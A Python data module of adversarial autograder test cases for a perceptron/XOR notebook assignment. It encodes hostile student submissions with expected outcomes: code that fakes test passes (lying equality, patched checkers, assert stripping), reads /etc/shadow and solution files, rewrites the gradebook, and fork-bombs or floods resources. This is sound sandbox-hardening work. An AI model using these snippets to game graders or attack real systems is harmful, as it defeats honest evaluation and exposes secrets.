"""The adversarial corpus of ``course-grade`` (issues 8 and 12): one submission of ``01_perceptron_xor`` per case,
written as data. A case is a name, how to make the submission from the release (one edit, usually), the
tests it must lose (every other test keeps its full points), and the status it must get.

Exercises and tests of 01 (points): predict (10), perceptron_update (15), train_perceptron (20, its tests
call ``predict``), threshold_mlp (10), xor_network (10), cover_count (15), separable_fraction (20; its
visible test compares with ``cover_count``).

Placeholders in the code of a case, filled in by the test: ``{course}`` (the course root), ``{gradebook}``
(its sqlite file), ``{solution}`` (the source notebook), ``{port}`` (a TCP port on 127.0.0.1 that the test
listens on). Cases marked ``sandboxed`` get the score shown only inside the sandbox (without one, student
code can read the solutions: that is what the sandbox is for).
"""
from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

A = "01_perceptron_xor"
P, U, T, M, X, C, S = ("predict_test", "perceptron_update_test", "train_perceptron_test", "threshold_mlp_test",
                       "xor_network_test", "cover_count_test", "separable_fraction_test")
ALL = (P, U, T, M, X, C, S)

# wrong answers used by several cases
WRONG_XOR = ("def xor_network():\n"
             "    return {'W1': np.zeros((2, 2)), 'b1': np.zeros(2), 'w2': np.zeros(2), 'b2': 0.0}\n")
WRONG_MLP = "def threshold_mlp(params, X):\n    return np.zeros(len(X), dtype=np.int64)\n"


@dataclass
class Ctx:
    """What a case's edit works from."""

    release: Any        # the release notebook (blank)
    source: Any         # the source notebook (solutions, hidden tests)
    other_release: Any  # the release of another assignment
    values: dict        # placeholder values
    fill: Callable      # fill(answers) -> an honest submission with these answers put in


@dataclass
class Case:
    name: str
    make: Callable[[Ctx], Any]  # -> a notebook, or str for the raw file
    lose: tuple[str, ...] = ()
    status: str = "graded"
    sandboxed: bool = False


def fill_in(code: str, values: dict) -> str:
    """``code`` with each ``{name}`` placeholder replaced by ``values[name]``."""
    for key, value in values.items():
        code = code.replace("{" + key + "}", str(value))
    return code


def answer(gid: str, code: str) -> Callable[[Ctx], Any]:
    """The honest submission with the solution cell ``gid`` replaced by ``code``."""
    return lambda ctx: ctx.fill({gid: fill_in(code, ctx.values)})


def before(gid: str, code: str) -> Callable[[Ctx], Any]:
    """The honest submission with ``code`` run at the top of the solution cell ``gid``."""
    def make(ctx: Ctx) -> Any:
        from course_utils import grading

        honest = grading.strip_solution_markers(grading.find_cell(ctx.source, gid).source)
        return ctx.fill({gid: fill_in(code, ctx.values) + "\n" + honest})
    return make


def edited(base: Callable[[Ctx], Any], edit: Callable[[Any], None]) -> Callable[[Ctx], Any]:
    """``base``'s submission changed in place by ``edit(notebook)``."""
    def make(ctx: Ctx) -> Any:
        nb = base(ctx)
        edit(nb)
        return nb
    return make


def cell(nb: Any, gid: str) -> Any:
    from course_utils import grading

    return grading.find_cell(nb, gid)


def _delete(nb: Any, gid: str) -> None:
    nb.cells.remove(cell(nb, gid))


def _move_before(nb: Any, gid: str, target: str) -> None:
    moving = cell(nb, gid)
    nb.cells.remove(moving)
    nb.cells.insert(nb.cells.index(cell(nb, target)), moving)


def _insert_first(nb: Any, code: str) -> None:
    from nbformat.v4 import new_code_cell

    nb.cells.insert(0, new_code_cell(code))


def _to_markdown(nb: Any, gid: str) -> None:
    c = cell(nb, gid)
    c.cell_type = "markdown"
    c.pop("outputs", None)
    c.pop("execution_count", None)


def _nbformat3(ctx: Ctx) -> str:
    import nbformat

    return nbformat.writes(nbformat.convert(ctx.fill({}), 3), version=3)  # convert changes its argument


honest = answer("predict", "def predict(w, b, X):\n    return (X @ w + b > 0).astype(np.int64)")
wrong_xor = answer("xor_network", WRONG_XOR)

LYING_ARRAY = """class _Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)
    def tolist(self):
        return [1, 0, 0, 0]
    def astype(self, *args, **kwargs):
        return self
def predict(w, b, X):
    return np.zeros(len(X), dtype=np.int64).view(_Liar)
"""
ALWAYS_EQUAL = """class _Liar(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__
def cover_count(n, d):
    if n < 1 or d < 1:
        raise ValueError('n, d >= 1')
    return _Liar(2 ** n)
"""
FRAME_PEEK = """import sys
def predict(w, b, X):
    caller = sys._getframe(1).f_globals
    for name in ("_expected", "_y4", "_y_and"):
        value = caller.get(name)
        if value is not None and len(value) == len(X):
            return np.asarray(value, dtype=np.int64)
    return np.array([1, 0, 0, 0])[:len(X)] if len(X) == 4 else np.zeros(len(X), dtype=np.int64)
"""
HARDCODED = """def cover_count(n, d):
    if n < 1 or d < 1:
        raise ValueError('n, d >= 1')
    return {(1, 1): 2, (3, 3): 8, (4, 2): 8, (10, 1): 2}.get((n, d), 0)
"""
STRIP_ASSERTS = WRONG_MLP + """get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if "assert" not in line])
"""
PATCH_RUN_CELL = WRONG_XOR + """_shell = get_ipython()
_original_run_cell = _shell.run_cell
def _run_cell(raw_cell, *args, **kwargs):
    raw_cell = "\\n".join(line for line in raw_cell.split("\\n") if "assert" not in line)
    return _original_run_cell(raw_cell, *args, **kwargs)
_shell.run_cell = _run_cell
"""
HIDE_ERRORS = WRONG_XOR + """get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
"""
PATCH_CHECKERS = WRONG_MLP + """import course_utils.checks as _checks
_checks.assert_close = _checks.assert_equal = _checks.assert_dtype = _checks.assert_shape = lambda *a, **k: None
assert_close = assert_equal = assert_dtype = assert_shape = _checks.assert_equal
"""
PATCH_NUMPY = WRONG_MLP + """np.allclose = np.array_equal = lambda *args, **kwargs: True
np.abs = np.absolute = lambda x, *args, **kwargs: np.zeros(np.shape(x))
np.testing.assert_array_equal = np.testing.assert_allclose = lambda *args, **kwargs: None
"""
TAMPER_BUILTINS = WRONG_XOR + """import builtins
builtins.AssertionError = Warning
__builtins__.print = lambda *args, **kwargs: None
"""
GRADEBOOK_WRITE = WRONG_XOR + """import sqlite3
for _path in ("{gradebook}", "../../../gradebook.db", "../../gradebook.db"):
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET auto_score = 0")
        _db.execute("UPDATE grade_cells SET max_score = 0")
        _db.commit()
    except Exception:
        pass
"""
READ_SOLUTION = """import json, os
for _path in ("{solution}", "../../../solutions/01_perceptron_xor/01_perceptron_xor.ipynb"):
    if os.path.exists(_path):
        for _cell in json.load(open(_path))["cells"]:
            if _cell["metadata"].get("nbgrader", {}).get("grade_id") == "xor_network":
                exec("".join(_cell["source"]))
"""
READ_CLASSMATE = READ_SOLUTION.replace("{solution}", "{course}/submitted/honest1/" + A + "/" + A + ".ipynb")
WRITE_FILES = """for _path in ("{solution}", "{course}/grades/01_perceptron_xor.json", "{gradebook}"):
    try:
        open(_path, "w").write("overwritten by a student")
    except OSError:
        pass
"""
SOCKET = """import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
except OSError:
    pass
"""
# the sandbox shows only the world-readable part of /etc: a grader running as root would otherwise let the kernel
# (the same uid, without capabilities) read root's own private files and print them into its feedback
SECRET_READ = WRONG_XOR + """for _path in ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_ed25519_key"):
    try:
        open(_path, "rb").read(1)
    except OSError:
        continue
    def xor_network():  # a secret of the grader's machine was readable: this student takes the points
        return {"W1": np.array([[1.0, -1.0], [1.0, -1.0]]), "b1": np.array([-0.5, 1.5]), "w2": np.ones(2),
                "b2": -1.5}
    break
"""

CASES = [
    Case("honest1", honest),
    Case("honest2", lambda ctx: ctx.fill({})),
    Case("blank", lambda ctx: copy.deepcopy(ctx.release), lose=ALL),
    # runaway code
    Case("infinite_loop", answer("predict", "def predict(w, b, X):\n    while True:\n        pass"), lose=(P, T)),
    Case("sleep", before("threshold_mlp", "import time\ntime.sleep(100_000)"), lose=(M,)),
    Case("sys_exit", before("xor_network", "import sys\nsys.exit()"), lose=(X,)),
    Case("os_exit", before("threshold_mlp", "import os\nos._exit(1)"), lose=(M,), status="crashed"),
    Case("kill_9", before("xor_network", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), lose=(X,),
         status="crashed"),
    Case("segfault", before("xor_network", "import ctypes\nctypes.string_at(0)"), lose=(X,), status="crashed"),
    Case("memory_bomb", before("threshold_mlp", "def _bomb():\n    hog = []\n    while True:\n"
                               "        hog.append(b'x' * 10**8)\n_bomb()"), lose=(M,), status="crashed"),
    Case("exception_in_first_cell", edited(honest, lambda nb: _insert_first(nb, "raise RuntimeError('my notes')"))),
    # locked cells and metadata
    Case("test_edited", edited(wrong_xor, lambda nb: setattr(cell(nb, X), "source", "pass")), lose=(X,)),
    Case("test_emptied", edited(wrong_xor, lambda nb: setattr(cell(nb, X), "source", "")), lose=(X,)),
    Case("test_deleted", edited(wrong_xor, lambda nb: _delete(nb, X)), lose=(X,)),
    Case("test_to_markdown", edited(wrong_xor, lambda nb: _to_markdown(nb, X)), lose=(X,)),
    Case("grade_id_changed", edited(wrong_xor, lambda nb: cell(nb, X).metadata.nbgrader.update(grade_id="bonus")),
         lose=(X,)),
    Case("points_inflated", edited(honest, lambda nb: cell(nb, X).metadata.nbgrader.update(points=1000))),
    Case("cells_reordered", edited(honest, lambda nb: (_move_before(nb, X, "xor_network"),
                                                       _move_before(nb, C, "predict")))),
    # tampering inside the kernel
    Case("checkers_patched", answer("threshold_mlp", PATCH_CHECKERS), lose=(M,)),
    # numpy patched in the kernel breaks only the student's own code there (the tests' numpy is the checker's)
    Case("numpy_patched", answer("threshold_mlp", PATCH_NUMPY), lose=(M, S)),
    Case("builtins_tampered", answer("xor_network", TAMPER_BUILTINS), lose=(X,)),
    Case("always_equal", answer("cover_count", ALWAYS_EQUAL), lose=(C, S)),
    Case("lying_methods", answer("predict", LYING_ARRAY), lose=(P, T)),
    Case("input_transformer", answer("threshold_mlp", STRIP_ASSERTS), lose=(M,)),
    Case("run_cell_patched", answer("xor_network", PATCH_RUN_CELL), lose=(X,)),
    Case("errors_hidden", answer("xor_network", HIDE_ERRORS), lose=(X,)),
    # the tests run in another process: no frame holds a reference, so the peeking predict is just wrong, and
    # train_perceptron's test, which calls predict, fails with it
    Case("frame_inspection", answer("predict", FRAME_PEEK), lose=(P, T)),
    Case("visible_tests_hardcoded", answer("cover_count", HARDCODED), lose=(C,)),
    # reaching outside the kernel (the sandbox's job)
    Case("gradebook_written", answer("xor_network", GRADEBOOK_WRITE), lose=(X,), sandboxed=True),
    Case("solution_read", answer("xor_network", READ_SOLUTION), lose=(X,), sandboxed=True),
    Case("classmate_read", answer("xor_network", READ_CLASSMATE), lose=(X,), sandboxed=True),
    Case("files_overwritten", before("xor_network", WRITE_FILES), sandboxed=True),
    Case("socket_opened", before("xor_network", SOCKET), sandboxed=True),
    Case("root_secret_read", answer("xor_network", SECRET_READ), lose=(X,), sandboxed=True),
    # files that are not this assignment's notebook
    Case("empty_file", lambda ctx: "", lose=ALL, status="invalid file"),
    Case("invalid_json", lambda ctx: '{"cells": [', lose=ALL, status="invalid file"),
    Case("not_a_notebook", lambda ctx: "%PDF-1.4\nmy answers are in the attached PDF\n", lose=ALL,
         status="invalid file"),
    Case("other_assignment", lambda ctx: copy.deepcopy(ctx.other_release), lose=ALL, status="invalid file"),
    Case("nbformat_3", _nbformat3),
    # damaged files that used to stop the whole class run (issue 12)
    Case("metadata_not_a_dict", edited(wrong_xor, lambda nb: cell(nb, X).metadata.update(nbgrader=5)), lose=(X,)),
    Case("json_nested_deep", lambda ctx: '{"nbformat": 4, "cells": ' + "[" * 200_000 + "]" * 200_000 + "}",
         lose=ALL, status="invalid file"),
]


# --- who a file belongs to (issue 18): archives as an LMS writes them, with a hostile student's uploads. A case
# is the format, the archive's members ("NB:<owner>" is a valid notebook that says who made it), the students
# that must be collected with the member each gets, and text each reason for an unmatched entry must contain.
@dataclass
class ArchiveCase:
    name: str
    fmt: str
    members: dict[str, str]
    collected: dict[str, str]
    unmatched: tuple[str, ...] = ()


ARCHIVE_CASES = [
    # mallory uploads a file named like alice's final version: Canvas prefixes it with mallory's own name and
    # user id, and the user id (1666) is who she is
    ArchiveCase("canvas_named_like_a_classmate", "canvas",
                {"alice_1001_5001_final.ipynb": "NB:alice", "mallory_1666_5666_alice_final.ipynb": "NB:mallory"},
                {"1001": "alice_1001_5001_final.ipynb", "1666": "mallory_1666_5666_alice_final.ipynb"}),
    # mallory uploads "bob.ipynb": it is still mallory's, and bob's own file is bob's
    ArchiveCase("canvas_classmates_file_name", "canvas",
                {"mallory_1666_5667_bob.ipynb": "NB:mallory", "bob_1002_5002_hw.ipynb": "NB:bob"},
                {"1002": "bob_1002_5002_hw.ipynb", "1666": "mallory_1666_5667_bob.ipynb"}),
    # mallory renames herself "alice" in Canvas: her user id is still hers
    ArchiveCase("canvas_renamed_like_a_classmate", "canvas",
                {"alice_1001_5001_hw.ipynb": "NB:alice", "alice_1666_5668_hw.ipynb": "NB:mallory"},
                {"1001": "alice_1001_5001_hw.ipynb", "1666": "alice_1666_5668_hw.ipynb"}),
    # names that would make a student ".." (a notebook written outside submitted/), an absolute path, a path
    # that climbs out, an id starting with "-": none collected; x/...ipynb is simply x's notebook
    ArchiveCase("dot_dot_student", "folder",
                {"x/...ipynb": "NB:x", "...ipynb": "NB:dotdot", "../escape.ipynb": "NB:escape",
                 "/abs.ipynb": "NB:abs", "-rf.ipynb": "NB:dash", "a/b/c.ipynb": "NB:deep"},
                {"x": "x/...ipynb"},
                ("'..' is not a valid id", "not a plain relative path", "'-rf' is not a valid id",
                 "not <student>.ipynb or <student>/<file>.ipynb")),
    # the folder format's old zip rule (<student>_<anything>.ipynb) is gone: the name is the id, whole
    ArchiveCase("folder_underscore_is_not_a_prefix", "folder",
                {"alice.ipynb": "NB:alice", "alice_final.ipynb": "NB:mallory"},
                {"alice": "alice.ipynb", "alice_final": "alice_final.ipynb"}),
    # two notebooks for one student, or two Canvas users behind one login: reported, neither collected
    ArchiveCase("two_notebooks_one_student", "canvas",
                {"carol_1003_5003_a.ipynb": "NB:carol", "carol_1003_5003_b.ipynb": "NB:carol",
                 "dan_1004_5004_hw.ipynb": "NB:dan"},
                {"1004": "dan_1004_5004_hw.ipynb"}, ("1003: 2 notebooks",)),
    # two students with the same name are two user ids; one user id under two names is reported
    ArchiveCase("canvas_same_name_two_users", "canvas",
                {"lee_2001_6001_hw.ipynb": "NB:lee1", "lee_2002_6002_hw.ipynb": "NB:lee2",
                 "kim_2003_6003_hw.ipynb": "NB:kim", "kimx_2003_6004_hw.ipynb": "NB:kim2"},
                {"2001": "lee_2001_6001_hw.ipynb", "2002": "lee_2002_6002_hw.ipynb"},
                ("Canvas user 2003 under several names (kim, kimx",)),
    # Moodle: the participant id decides, not the full name (two Sam Smiths) nor the file name
    ArchiveCase("moodle_same_name", "moodle",
                {"Sam Smith_3001_assignsubmission_file_/alice.ipynb": "NB:sam1",
                 "Sam Smith_3002_assignsubmission_file_/hw.ipynb": "NB:sam2",
                 "Eve_3003_assignsubmission_file_/a.ipynb": "NB:eve", "Eve_3003_assignsubmission_file_/b.ipynb":
                 "NB:eve", "Sam Smith_3001_assignsubmission_onlinetext_/onlinetext.html": "<p>hi</p>"},
                {"3001": "Sam Smith_3001_assignsubmission_file_/alice.ipynb",
                 "3002": "Sam Smith_3002_assignsubmission_file_/hw.ipynb"},
                ("3003: 2 notebooks", "onlinetext.html")),
]


# --- hostile load (issue 18): each attack runs at the top of the xor_network solution cell of an honest
# submission, under the limits of tests/test_limits.py (LOAD_LIMITS). Expected per mechanism: the tests the
# attacker loses and the status ("graded" or "crashed"; None: either, where which process the kernel's OOM
# killer picks is not fixed). Classmates graded in the same run keep exactly their scores.
LOAD_LIMITS = {"memory_mb": 768, "cpus": 1.0, "pids": 64, "disk_mb": 64}
MMAP_TOUCH = """import mmap
_m = mmap.mmap(-1, 1536 * 2**20)
for _i in range(0, len(_m), 4096):
    _m[_i] = 1
"""
FORK_AND_HOLD = """import os, time
_kids = []
for _ in range(5):
    _pid = os.fork()
    if _pid == 0:
        _b = bytearray(200 * 2**20)
        for _i in range(0, len(_b), 4096):
            _b[_i] = 1
        time.sleep(3)
        os._exit(0)
    _kids.append(_pid)
_codes = [os.waitpid(_p, 0)[1] for _p in _kids]
assert all(_c == 0 for _c in _codes), f"children stopped: {_codes}"
"""
FILL = """with open({path!r}, "wb") as _f:
    for _ in range(1024):
        _f.write(b"\\0" * 2**20)
"""
FORK_STORM = """import os, time
_kids = []
try:
    for _ in range(400):
        _pid = os.fork()
        if _pid == 0:
            time.sleep(2)
            os._exit(0)
        _kids.append(_pid)
finally:
    for _p in _kids:
        os.waitpid(_p, 0)
"""
CPU_BURNERS = """import multiprocessing as _mp, time
def _burn(seconds):
    end = time.time() + seconds
    while time.time() < end:
        pass
for _ in range(4):  # started before the tests, still burning while they run
    _mp.Process(target=_burn, args=(20,), daemon=True).start()
"""
OUTPUT_FLOOD = """for _ in range(50):
    print("x" * 2**20, flush=True)
"""
OUTPUT_ONCE = """print("y" * (100 * 2**20))
"""
OUTPUT_PNG = """from IPython.display import display
display({"image/png": "A" * (40 * 2**20)}, raw=True)
"""
# replies the checker would build into 10 million lists (found by the attacker review of issue 18)
FAT_REPLIES = """import course_utils.grader.wire as _w
_FAT = '{"value":[' + '[],' * 10_000_000 + '[]]}'
_w.dumps = lambda *args, **kwargs: _FAT
"""
SOCKET_FOLDER_FILL = """import os
_argv = open("/proc/self/cmdline", "rb").read().split(b"\\0")
_folder = os.path.dirname(_argv[_argv.index(b"-f") + 1].decode())
for _i in range(10):
    with open(os.path.join(_folder, f"fill{_i}.bin"), "wb") as _f:
        _f.write(b"\\0" * (10 * 2**20))
"""


@dataclass
class LoadCase:
    name: str
    code: str
    cgroup: tuple[tuple[str, ...], str | None]   # (tests lost, status) with a cgroup per kernel
    rlimits: tuple[tuple[str, ...], str | None]  # ... with the per-process fallback (as root: no RLIMIT_NPROC)
    rlimits_user: tuple[tuple[str, ...], str | None] | None = None  # ... as another user, when it differs


LOAD_CASES = [
    # a shared mapping touched page by page: RLIMIT_DATA does not count it; memory.max does (the kernel is
    # killed), and so does RLIMIT_AS (mmap fails)
    LoadCase("mmap_1536_mb", MMAP_TOUCH, ((X,), "crashed"), ((X,), "graded")),
    # five children holding 200 MB each: the cgroup counts them together; per-process limits do not
    LoadCase("fork_and_hold", FORK_AND_HOLD, ((X,), None), ((), "graded")),
    # 1 GB into /tmp and into the working folder: both are tmpfs of 64 MB in the sandbox
    LoadCase("tmp_fill", FILL.format(path="/tmp/fill.bin"), ((X,), "graded"), ((X,), "graded")),
    LoadCase("workdir_fill", FILL.format(path="fill.bin"), ((X,), "graded"), ((X,), "graded")),
    # 400 children: pids.max stops it at 64; RLIMIT_NPROC only for a user other than root
    LoadCase("fork_storm", FORK_STORM, ((X,), "graded"), ((), "graded"), ((X,), "graded")),
    # CPU burners are not wrong: they keep their points (and their classmates' time: benchmarks/hostile_load.py)
    LoadCase("cpu_burners", CPU_BURNERS, ((), "graded"), ((), "graded")),
    # output (50 MB in 1 MB pieces, 100 MB at once): kept up to 5 MB per cell, the rest dropped as it arrives,
    # with a note in the graded notebook
    LoadCase("output_flood", OUTPUT_FLOOD, ((), "graded"), ((), "graded")),
    LoadCase("output_once", OUTPUT_ONCE, ((), "graded"), ((), "graded")),
    LoadCase("output_png", OUTPUT_PNG, ((), "graded"), ((), "graded")),
    # found by the attacker review: /dev/shm is a tmpfs of 64 MB too; the socket folder on the grader's disk
    # is read-only to the kernel once its sockets exist (as root; as another user only RLIMIT_FSIZE bounds
    # each file); replies too large to parse are refused before parsing (every test calling a function fails)
    LoadCase("shm_fill", FILL.format(path="/dev/shm/fill.bin"), ((X,), "graded"), ((X,), "graded")),
    LoadCase("socket_folder_fill", SOCKET_FOLDER_FILL, ((X,), "graded"), ((X,), "graded"), ((), "graded")),
    LoadCase("fat_replies", FAT_REPLIES, (ALL, "graded"), (ALL, "graded")),
]
